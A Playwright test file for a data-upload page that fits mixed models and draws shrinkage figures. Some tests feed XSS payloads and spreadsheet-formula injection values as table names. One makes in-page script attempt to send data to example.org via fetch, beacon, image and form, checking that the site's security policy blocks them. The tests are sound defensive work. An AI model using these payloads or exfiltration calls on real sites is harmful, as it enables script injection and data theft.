"""The page "Your data": every way in, every kind of bad table, and nothing that leaves."""

import csv
import io
from pathlib import Path

import pytest
from playwright.sync_api import expect

from shrinksite import create_data
from shrinksite.number_words import number
from shrinksite.words import say
from tests.browser import (
    be_still,
    into_view,
    violations,
    wake,
    wake_navigation,
    watch,
    withhold,
)
from tests.sums import sums_of

pytestmark = pytest.mark.needs("your-data.md")

ROOT = Path(__file__).parent.parent
RESULTS = "#yd-results:not([hidden])"
HOSTILE = '<img src=x onerror="window.owned = 1"><script>window.owned = 1</script>'
ALLOWED = ("data:", "blob:")


def rows(n: int = 60, name=lambda c: f"c{c}", header: str = "y,x,g") -> str:
    """Write a table in clusters of five."""
    lines = [f"{(i * 7919 % 101) / 10},{i % 5},{name(i // 5)}" for i in range(n)]
    return "\n".join([header, *lines]) + "\n"


def fitted(rows: int, clusters: int, column: str = "g", left_out: int = 0) -> str:
    """Return what the page says of a fit."""
    sizes = {"rows": rows, "clusters": clusters}
    return say("data-words-rows", **sizes, column=column, leftOut=left_out, otherLevels=0)


@pytest.fixture
def bring(page, site):
    """Open the page, and give what pastes a text into it and waits for the answer."""
    page.emulate_media(reduced_motion="reduce")
    page.set_default_timeout(20_000)
    page.goto(f"{site}your-data/")
    wake(page)
    page.locator("#yd-bring[data-ready]").wait_for()

    def paste(text: str, *, good: bool = True) -> str:
        page.locator("#yd-text").fill(text)
        page.get_by_role("button", name=say("data-paste-read")).click()
        if good:
            rest(page)
            page.locator(RESULTS).wait_for()
            return page.locator(".yd-said").inner_text()
        page.locator(".yd-problem:not(:empty)").wait_for()
        return page.locator(".yd-problem").inner_text()

    return paste


def rest(page):
    """Wait until what was just asked for is answered: then no new figure takes the place of one."""
    page.locator(".yd-busy").wait_for(state="hidden")


def draw(page):
    """Bring the figure into view and wait until it is drawn."""
    rest(page)
    into_view(page.locator("#yd-live .shrinkage-main"))
    page.locator("#yd-live .is-drawn").wait_for()
    return page.locator("#yd-live")


@pytest.mark.parametrize("size", [(390, 844), (1440, 900)], ids=str)
@pytest.mark.usefixtures("bring")
def test_what_came_of_an_example_is_seen_from_where_it_was_clicked(page, size):
    page.set_viewport_size({"width": size[0], "height": size[1]})
    page.reload()
    wake(page)
    page.locator("[data-file='sleepstudy.csv']").click()
    link = page.locator(".yd-said").get_by_role("link")
    expect(link).to_be_in_viewport(ratio=1)
    top = "e => e.getBoundingClientRect().top"
    stage = page.locator("#yd-live .shrinkage-stage")
    assert stage.evaluate(top) - link.evaluate(top) < 1.5 * size[1]
    link.click()
    expect(stage).to_be_in_viewport(ratio=0.9)


@pytest.mark.usefixtures("bring")
def test_options_are_folded_on_a_phone_until_one_is_chosen(page):
    options = page.locator("details.yd-options")
    expect(options).to_have_attribute("open", "")
    page.set_viewport_size({"width": 390, "height": 844})
    page.reload()
    wake(page)
    page.locator("[data-file='sleepstudy.csv']").click()
    page.locator(RESULTS).wait_for()
    expect(options).not_to_have_attribute("open", "")
    page.evaluate("""location.hash = '#v1&chosen={"randomEffects":"intercept"}'""")
    page.reload()
    wake(page)
    page.locator("[data-file='sleepstudy.csv']").click()
    page.locator(RESULTS).wait_for()
    assert page.locator("select[name=randomEffects]").input_value() == "intercept"
    expect(options).to_have_attribute("open", "")


@pytest.mark.parametrize(
    ("example", "name", "slope", "x", "y"),
    [
        ("sleepstudy", "335", "10.467", "Days", "Reaction"),
        ("radon", "MARSHALL", "-0.68", "floor", "log_radon"),
    ],
)
@pytest.mark.usefixtures("bring")
def test_an_example_is_one_click_away(page, example, name, slope, x, y):
    wrong = watch(page)
    page.locator(f"[data-file='{example}.csv']").click()
    page.locator(RESULTS).wait_for()
    assert slope in page.locator(".yd-print").inner_text()
    figure = draw(page)
    figure.locator(".shrinkage-examples button").first.click()
    panel = figure.locator(".shrinkage-panel")
    panel.locator("svg").wait_for()
    assert panel.locator(".shrinkage-title").inner_text() == say("cluster-name", name=name)
    assert panel.locator("circle").count() > 0
    assert (
        figure.locator(".g-ytitle, .annotation").get_by_text(say("figure-axis-slope", x=x)).count()
        == 1
    )
    assert {x, y} <= set(panel.locator("svg text").all_text_contents())
    figure.locator(".shrinkage-table summary").click()
    headings = figure.locator(".shrinkage-estimates thead").last
    expect(headings).to_contain_text(say("estimates-no-pooling-x"))
    expect(headings).not_to_contain_text(say("estimates-truth-x"))
    assert wrong == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_accessible_with_results(page, bring, scheme):
    page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
    be_still(page)
    assert violations(page) == []
    assert fitted(60, 12) in bring(rows())
    draw(page)
    for summary in page.locator("#yd-columns summary, #yd-results summary").all():
        if not summary.evaluate("e => e.parentElement.open"):
            summary.click()
    page.locator("#yd-live .shrinkage-examples button").first.click()
    page.locator(".shrinkage-panel svg").wait_for()
    be_still(page)
    assert violations(page) == []
    page.locator("select[name=x]").select_option("2")
    page.locator(".yd-problem:not(:empty)").wait_for()
    assert violations(page) == []


def test_jumps_within_the_page_keep_the_readers_table(page, bring):
    wrong = watch(page)
    bring(rows(name=lambda c: f"mine{c}"))
    page.get_by_role("link", name=say("data-see")).click()
    page.locator(".md-nav a[href$='#good-to-know']:visible").first.click()
    page.wait_for_url("**#good-to-know")
    page.go_back()
    page.wait_for_timeout(500)
    assert page.locator(RESULTS).count() == 1
    assert "mine0" in page.locator("#yd-text").input_value()
    assert wrong == []


def test_an_example_that_was_cancelled_does_not_come_after_all(page, bring):
    release = withhold(page, "data/sleepstudy.csv")
    page.locator("[data-file='sleepstudy.csv']").click()
    page.locator("[data-do=cancel]").click()
    expect(page.locator(".yd-said")).to_have_text(say("data-cancelled"))
    bring(rows())
    release()
    page.wait_for_timeout(500)
    assert fitted(60, 12) in page.locator(".yd-said").inner_text()


def test_nothing_leaves(page, site, bring):
    """Even a script that wants to send something cannot."""
    asked = []
    page.context.on("request", lambda request: asked.append(request))
    bring(rows(name=lambda c: f"secret{c}"))
    draw(page)
    page.locator("details.compare summary").click()
    page.locator("[data-do=compare-draw]").click()
    page.locator("details.compare td:last-child:not(:empty)").first.wait_for()
    page.locator("[data-do=download]").click()
    assert [r.url for r in asked if not r.url.startswith((site, *ALLOWED))] == []
    assert all(r.method == "GET" and not r.post_data for r in asked)
    assert not [r.url for r in asked if "secret" in r.url]
    forbidden = ["connect-src", "img-src", "form-action", "script-src-attr"]
    tried = page.evaluate(
        """async (forbidden) => {
          const blocked = [];
          const note = (event) => blocked.push(event.effectiveDirective);
          document.addEventListener("securitypolicyviolation", note);
          await fetch("https://example.org/?d=1").catch(() => {});
          navigator.sendBeacon("https://example.org/", "1");
          const image = new Image();
          image.src = "https://example.org/1.png";
          const form = document.createElement("form");
          form.action = "https://example.org/";
          document.body.append(form);
          form.submit();
          const markup = '<img src="data:," onerror="window.owned = 1">';
          document.body.insertAdjacentHTML("beforeend", markup);
          const areAllNoted = () => forbidden.every((kind) => blocked.includes(kind));
          for (let tenth = 0; tenth < 200 && !areAllNoted(); tenth++)
            await new Promise((resolve) => setTimeout(resolve, 100));
          return blocked;
        }""",
        forbidden,
    )
    assert set(forbidden) <= set(tried)
    assert page.evaluate("window.owned") is None
    sent = [r for r in asked if "example.org" in r.url and "csp" not in (r.failure or "")]
    assert sent == [], [r.failure for r in sent]


@pytest.mark.needs("summary.md", "glossary.md")
def test_the_policy_holds_after_instant_navigation(page, site):
    page.goto(f"{site}summary/")
    wake_navigation(page)
    page.evaluate("window.stayed = 1")
    page.locator(".md-nav a[href$='your-data/']").first.click()
    page.locator("#yd-bring").wait_for()
    page.locator("[data-file='sleepstudy.csv']").click()
    page.locator(RESULTS).wait_for()
    assert page.evaluate("window.stayed") == 1, "the page was loaded in full"
    assert page.evaluate("fetch('https://example.org/').then(() => 1, () => 0)") == 0
    workers = [w for w in page.workers if "table" in w.url]
    assert len(workers) == 1
    sends = workers[0].evaluate("[typeof fetch, typeof XMLHttpRequest, typeof WebSocket]")
    assert sends == ["undefined"] * 3
    with workers[0].expect_event("close"):  # the worker goes with its page
        page.locator(".md-nav a[href$='glossary/']").first.click()


def test_names_cannot_run_code(page, bring):
    wrong = watch(page)
    names = [
        HOSTILE,
        "=HYPERLINK(1)",
        "+1",
        "-a",
        "@x",
        "__proto__",
        'a"b',
        "&amp;",
        "a\tb",
        "a'b",
        "\u202eabc",
        "<b>",
    ]

    def quote(text):
        return '"' + text.replace('"', '""') + '"'

    text = rows(
        name=lambda c: quote(names[c]),
        header=f"{quote(HOSTILE)},{quote('<b>x</b>')},{quote('<u>g</u>')}",
    )
    bring(text)
    figure = draw(page)
    figure.locator(".shrinkage-table summary").click()
    figure.locator(".shrinkage-estimates tbody button").first.wait_for()
    for button in figure.locator(".shrinkage-estimates tbody button").all():
        button.click()
        figure.locator(".shrinkage-panel svg").wait_for()
        page.wait_for_timeout(60)
    shown = figure.locator(".shrinkage-estimates tbody th").all_inner_texts()
    assert HOSTILE in shown
    assert figure.get_by_text(say("figure-axis-slope", x="<b>x</b>")).count() == 1
    assert "<b>x</b>" in figure.locator(".shrinkage-panel").inner_text()
    assert page.evaluate("window.owned") is None
    assert page.locator(".md-content :is(img, script):not(.md-content__button *)").count() == 0
    with page.expect_download() as waiting:
        page.locator("[data-do=download]").click()
    found = waiting.value.path().read_text(encoding="utf-8-sig")
    cells = [row[0] for row in csv.reader(io.StringIO(found))]
    assert {"'=HYPERLINK(1)", "'+1", "'-a", "'@x", HOSTILE} <= set(cells)
    for code in ("[data-language=r]", "[data-language=python]"):
        page.locator(code).evaluate("e => (e.closest('details').open = true)")
        assert "window.owned" in page.locator(code).inner_text()
    assert wrong == []


@pytest.mark.parametrize(
    ("text", "key", "values"),
    [
        ("", "data-nothing", {}),
        ("a\n1\n2\n", "data-too-narrow", {"row": "1", "separator": "comma"}),
        (
            "y,x,g\n1,2,a\n1,2\n",
            "data-row-short",
            {"row": "3", "cells": 2, "first": "1", "width": 3, "column": 3},
        ),
        ("x," * 2000 + "x\n", "data-too-wide", {"row": "1", "columns": 2001, "most": 500}),
    ],
    ids=["empty", "one column", "ragged", "wide"],
)
def test_a_table_that_cannot_be_read_loses_nothing_that_was_typed(page, bring, text, key, values):
    bring(rows())
    assert say(key, **values) in bring(text, good=False)
    assert page.locator("#yd-text").input_value() == text
    assert page.locator(RESULTS).count() == 0
    assert page.locator("#yd-columns").is_hidden(), "columns of the table before"
    assert page.locator(".yd-reading[open] select[name=separator]").is_visible()
    assert fitted(60, 12) in bring(rows())
    assert page.locator(".yd-problem").inner_text() == ""


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (rows().replace("\n0.0,", "\nabc,"), "abc"),
        (rows(name=lambda _: "one"), "one"),
        (rows().replace("\n0.0,0,", f"\n0.0,{HOSTILE},"), f"{HOSTILE[:39]}…"),
    ],
    ids=["text", "one cluster", "script"],
)
def test_columns_that_cannot_be_fitted_lose_nothing_that_was_typed(page, bring, text, said):
    page.locator("#yd-text").fill(text)
    page.get_by_role("button", name=say("data-paste-read")).click()
    page.locator("#yd-columns").wait_for()
    for role, column in (("y", "0"), ("x", "1"), ("cluster", "2")):
        page.locator(f"select[name={role}]").select_option(column)
    problem = page.locator("#yd-columns .yd-problem:not(:empty)")
    page.locator(".yd-problem", has_text=said).wait_for()
    assert problem.count() == 1
    assert page.locator("#yd-text").input_value() == text
    assert page.locator(RESULTS).count() == 0
    assert page.evaluate("window.owned") is None
    assert fitted(60, 12) in bring(rows())
    assert page.locator(".yd-problem").inner_text() == ""


def test_missing_cells_are_named_and_left_out_on_a_click(page, bring):
    text = rows().replace("\n0.0,", "\n,")
    said = bring(text, good=False)
    assert say("data-fill-gaps") in said
    missing = sum(line.startswith(",") for line in text.splitlines())
    hint = say("data-missing-some", missing=missing, rows=60)
    assert page.locator(".yd-missing").inner_text() == hint
    page.get_by_role("button", name=say("data-do-leave-out", rows=missing)).click()
    page.locator(RESULTS).wait_for()
    assert page.locator("input[name=leaveOut]").is_checked()
    assert fitted(60 - missing, 12, left_out=missing) in page.locator(".yd-said").inner_text()
    assert "dropna" in page.locator("[data-language=python]").text_content()


def test_how_numbers_are_read_is_shown_with_the_other_way(page, bring):
    text = (ROOT / "tests/cases/paste_thousands_en.tsv").read_text()
    bring(text)
    assert "48.52" in page.locator(".yd-print").inner_text()
    notice = page.locator(".yd-notices li").first
    assert "1,316" in notice.inner_text()
    notice.get_by_role("button").click()
    page.locator(".yd-print", has_text="-18.").wait_for()
    page.locator(".yd-notices li").first.get_by_role("button").click()
    page.locator(".yd-print", has_text="48.52").wait_for()


def test_a_wide_table_is_turned_long_on_a_click(page, bring):
    text = (ROOT / "tests/cases/wide_sleep.csv").read_text()
    bring(text, good=False)
    problem = page.locator(".yd-problem")
    problem.get_by_role("button", name=say("data-do-long")).click()
    page.locator(".yd-print", has_text="1743.6").wait_for()
    page.locator(".yd-notices").get_by_role("button", name=say("data-do-undo")).first.click()
    page.locator(".yd-problem:not(:empty)").wait_for()


def test_a_warning_leads_to_the_model_that_it_recommends(page, bring):
    bring((ROOT / "tests/cases/paste_thousands_en.tsv").read_text())
    page.get_by_role("button", name=say("data-do-intercepts")).click()
    page.locator(".yd-print", has_text="(1 | person)").wait_for()
    assert page.locator("select[name=randomEffects]").input_value() == "intercept"


def test_structures_are_compared_under_their_choice(page, bring):
    wrong = watch(page)
    place = page.locator("details.compare")
    expect(place).to_be_hidden()
    page.locator("[data-file='sleepstudy.csv']").click()
    page.locator(RESULTS).wait_for()
    place.locator("summary").click()
    models = place.locator("tbody tr")
    expect(models).to_have_count(4)
    name = say("data-quoted", name="Days")
    uncorrelated = models.filter(has_text=say("compare-uncorrelated", x=name))
    expect(uncorrelated).to_contain_text(number(1743.669, 1))
    expect(place.locator("[aria-current]")).to_contain_text(say("compare-correlated"))
    place.locator("[data-do=compare-draw]").click()
    exact = place.locator("td:last-child:not(:empty)")
    expect(exact).to_have_count(3)
    expect(exact.last).to_contain_text("±")
    page.locator("select[name=randomEffects]").select_option("uncorrelated")
    expect(place.locator("[aria-current]")).to_contain_text(name)
    expect(exact).to_have_count(3)
    # Other data, without a predictor
    page.locator("select[name=x]").select_option("-1")
    expect(models).to_have_count(2)
    expect(models.last).to_contain_text(say("compare-mean"))
    expect(exact).to_have_count(0)
    bring("nothing", good=False)
    expect(place).to_be_hidden()
    assert wrong == []


def test_a_guess_for_one_table_does_not_stick_to_the_next(page, bring):
    bad = rows().replace("\n0.0,", "\n12 kg,", 1)
    assert "12 kg" in bring(bad, good=False)
    assert fitted(60, 12) in bring(rows())
    assert page.locator("select[name=y]").input_value() == "0"


def test_arrow_keys_in_a_select_fit_once_where_they_rest(page, bring):
    bring(rows())
    page.evaluate(
        """() => {
          window.said = [];
          window.fits = 0;
          const problem = document.querySelector(".yd-problem");
          const changes = { childList: true };
          new MutationObserver(() => said.push(problem.textContent)).observe(problem, changes);
          const print = document.querySelector(".yd-print");
          new MutationObserver(() => (fits += 1)).observe(print, changes);
        }"""
    )
    page.clock.install()
    # However long the four keys take, and however long it takes until the clock stands
    page.clock.pause_at(page.evaluate("Date.now() + 30_000"))
    page.locator("select[name=y]").focus()
    page.keyboard.press("ArrowDown")
    page.keyboard.press("ArrowDown")
    page.keyboard.press("ArrowUp")
    page.keyboard.press("ArrowUp")
    assert page.evaluate("fits") == 0
    page.clock.run_for(1200)
    page.clock.resume()
    page.wait_for_function("() => fits > 0")
    page.locator(RESULTS).wait_for()
    assert [text for text in page.evaluate("said") if text] == []
    assert page.locator(RESULTS).count() == 1


def test_a_text_is_a_predictor_and_two_columns_are_a_cluster(page, bring):
    text = "y,x,g,h\n" + "".join(
        f"{(i * 7919 % 101) / 10},{'AB'[i % 2]},{i // 4 % 5},{i // 20}\n" for i in range(80)
    )
    bring(text)
    page.locator("select[name=x]").select_option("1")
    page.locator("select[name=zero]").wait_for()
    page.locator("select[name=zero]").select_option("B")
    page.locator("select[name=one]").select_option("A")
    page.locator(".yd-print", has_text="[x: A]").wait_for()
    page.locator("select[name=cluster]").select_option("3")
    page.locator("select[name=within]").select_option("2")
    page.locator(".yd-print", has_text="h / g, 20").wait_for()


@pytest.mark.parametrize("x", ["none", "constant in clusters"])
def test_means_are_drawn_and_move_along_one_axis(page, bring, x):
    wrong = watch(page)
    lines = [f"{i // 5 * 7 % 12 + i * 7919 % 101 / 10},{i // 5 % 3},c{i // 5}" for i in range(60)]
    bring("\n".join(["y,x,g", *lines]))
    column, formula = ("-1", "y ~ 1 + (1 | g)") if x == "none" else ("1", "y ~ x + (1 | g)")
    page.locator("select[name=x]").select_option(column)
    page.locator(".yd-print", has_text=formula).wait_for()
    figure = draw(page)
    figure.locator(".shrinkage-plot:not(.is-moving)").wait_for()
    points = figure.locator(".traceclusters .point")
    expect(points).to_have_count(12)
    place = "all => all.map((e) => e.getAttribute('transform').match(/[-\\d.]+/g).map(Number))"

    def at(progress):
        figure.locator("input[type=range]").fill(str(progress))
        return list(zip(*points.evaluate_all(place), strict=True))

    (start, height), (end, still_there) = at(0), at(100)
    assert still_there == pytest.approx(height, abs=0.01)
    middle = sum(end) / len(end)
    if x == "none":  # every mean moves towards the average, and keeps its order
        assert all(abs(b - middle) < abs(a - middle) for a, b in zip(start, end, strict=True))
        assert sorted(range(12), key=lambda c: start[c]) == sorted(range(12), key=lambda c: end[c])
    else:  # towards the line at its own x
        assert len({round(y) for y in height}) == 3
        assert start != pytest.approx(end, abs=1)
    figure.locator(".shrinkage-examples button").first.click()
    panel = figure.locator(".shrinkage-panel table")
    expect(panel.locator("thead th")).to_have_text([say("term-mean")])
    expect(panel).to_contain_text(say("cluster-interval"))
    assert not wrong


def test_results_can_be_taken_along(page, bring):
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    bring(rows(name=lambda c: f"secret{c}"))
    page.locator("input[name=centre]").check()
    page.locator(".yd-print", has_text="[").wait_for()
    draw(page)
    for what, name in (("report", "report.txt"), ("svg", "figure.svg"), ("png", "figure.png")):
        with page.expect_download() as waiting:
            page.locator(f"#yd-results [data-do={what}]").click()
        assert waiting.value.suggested_filename == name
        assert waiting.value.path().stat().st_size > 500
    page.locator("#yd-results [data-do=link]").click()
    page.get_by_text(say("copy-done")).first.wait_for()
    address = page.evaluate("navigator.clipboard.readText()")
    assert "secret" not in address
    page.goto("about:blank")
    page.goto(address)
    wake(page)
    page.locator("#yd-bring[data-ready]").wait_for()
    bring(rows())
    assert page.locator("input[name=centre]").is_checked()


def test_an_address_that_cannot_be_read_is_named(page, site):
    page.goto(f"{site}your-data/#v1&asked=%7B%22separator%22:%22%3Cscript%3E%22%7D")
    wake(page)
    page.locator(".yd-said", has_text=say("data-address-broken")).wait_for()


def test_choices_stay_when_the_text_is_corrected(page, bring):
    bring(rows())
    page.locator("input[name=centre]").check()
    page.locator("select[name=y]").select_option("1")
    page.locator("select[name=x]").select_option("0")
    page.locator(".yd-print", has_text=f"x ~ [{say('data-x-centred', x='y')}]").wait_for()
    bring("y,x,g\n1,2\n", good=False)
    bring(rows(80))
    page.locator(".yd-print", has_text=f"x ~ [{say('data-x-centred', x='y')}]").wait_for()


@pytest.mark.usefixtures("bring")
def test_a_file_with_semicolons_and_decimal_commas(page, tmp_path):
    file = tmp_path / "tabelle.csv"
    text = rows().replace(",", ";").replace(".", ",").replace("c0", "Zürich")
    file.write_bytes(b"\xef\xbb\xbf" + text.encode())
    page.locator("#yd-file").set_input_files(file)
    page.locator(RESULTS).wait_for()
    assert "tabelle.csv" in page.locator(".yd-said").inner_text()
    assert 'gsub(",", ".", y, fixed = TRUE)' in page.locator("[data-language=r]").text_content()
    binary = tmp_path / "table.xlsx"
    binary.write_bytes(b"PK\x03\x04" + bytes(200))
    page.locator("#yd-file").set_input_files(binary)
    page.locator(".yd-problem", has_text=say("data-file-kind", kind="workbook")).wait_for()
    assert page.locator(".yd-problem").evaluate("e => e.getAttribute('role')") == "alert"


@pytest.mark.usefixtures("bring")
def test_a_file_can_be_dropped_anywhere(page):
    page.evaluate(
        """(text) => {
          const data = new DataTransfer();
          data.items.add(new File([text], "dropped.csv"));
          const options = { dataTransfer: data, bubbles: true, cancelable: true };
          for (const kind of ["dragover", "drop"])
            document.body.dispatchEvent(new DragEvent(kind, options));
        }""",
        rows(),
    )
    page.locator(RESULTS).wait_for()
    assert "dropped.csv" in page.locator(".yd-said").inner_text()


def test_what_is_brought_before_any_script_is_read(page, site):
    page.goto(f"{site}your-data/")
    page.evaluate("(text) => (document.getElementById('yd-text').value = text)", rows())
    wake(page)
    page.locator(RESULTS).wait_for()


# In the page, which does not wait for who is late to press it
CANCEL_ON_THE_WAY = """() => {
  const busy = document.querySelector(".yd-busy");
  new MutationObserver((_, observer) => {
    if (busy.hidden || busy.querySelector("progress").value === 0) return;
    observer.disconnect();
    busy.querySelector("[data-do=cancel]").click();
  }).observe(busy, { attributes: true, subtree: true });
}"""


def bring_million(page, file):
    """Bring a table; return the seconds until its results, and the page's longest task in ms."""
    page.locator("#yd-file").set_input_files([])
    before = page.evaluate("(window.longest = 0, performance.now())")
    page.locator("#yd-file").set_input_files(file)
    page.locator(".yd-busy").wait_for(state="hidden", timeout=60_000)
    page.locator(RESULTS).wait_for(timeout=60_000)
    seconds = (page.evaluate("performance.now()") - before) / 1000
    page.wait_for_timeout(200)
    return seconds, page.evaluate("longest")


@pytest.mark.usefixtures("bring")
def test_a_million_rows(page, tmp_path):
    """Without a frozen page: what the page itself does never takes a second."""
    file = tmp_path / "million.csv"
    with file.open("w") as out:
        out.write("y,x,g\n")
        for c in range(100_000):
            out.writelines(
                f"{(c * 31 + i * 7919) % 1009 / 10 + c % 9},{i},p{c}\n" for i in range(10)
            )
    page.evaluate(
        """() => {
          window.longest = 0;
          new PerformanceObserver((list) => {
            const durations = list.getEntries().map(({ duration }) => duration);
            window.longest = Math.max(window.longest, ...durations);
          }).observe({ type: "longtask" });
        }"""
    )
    page.evaluate(CANCEL_ON_THE_WAY)
    page.locator("#yd-file").set_input_files(file)
    expect(page.locator(".yd-said")).to_have_text(say("data-cancelled"))
    taken = [bring_million(page, file) for _ in range(2)]
    # The lesser of two: what other programs do meanwhile counts as well.
    seconds, frozen = (min(both) for both in zip(*taken, strict=True))
    assert fitted(1_000_000, 100_000, "g") in page.locator(".yd-said").inner_text()
    figure = draw(page)
    drawn = page.evaluate("longest")
    print(f"a million rows: {seconds:.1f} s; longest task {frozen:.0f} ms, drawing {drawn:.0f} ms")
    drawn_some = say("data-drawn-some", drawn=500, clusters=100_000, step=200)
    assert drawn_some in figure.locator("figcaption").inner_text()
    assert frozen < 1000


def test_a_table_of_sums_is_fitted_and_rows_are_a_button_away(page, bring):
    wrong = watch(page)
    sums = sums_of(create_data(n_cluster=12, obs_per_cluster=6))
    bring(sums.to_csv(index=False))
    assert page.locator(".yd-words p").first.inner_text() == fitted(72, 12, "cluster")
    printed = page.locator(".yd-print").inner_text()
    assert "Number of obs: 72" in printed
    assert "residuals" not in printed
    figure = draw(page)
    figure.locator(".shrinkage-examples button").first.click()
    panel = figure.locator(".shrinkage-panel")
    panel.locator("table").wait_for()
    assert panel.locator("svg").count() == 0  # there are no observations to draw
    assert "NaN" not in panel.inner_html()
    notice = page.locator(".yd-notices li").first
    assert say("data-sums-read") in notice.inner_text()
    notice.get_by_role("button", name=say("data-sums-not")).click()
    page.locator(".yd-problem:not(:empty)").wait_for()  # mean_y of single rows has no model
    assert not wrong
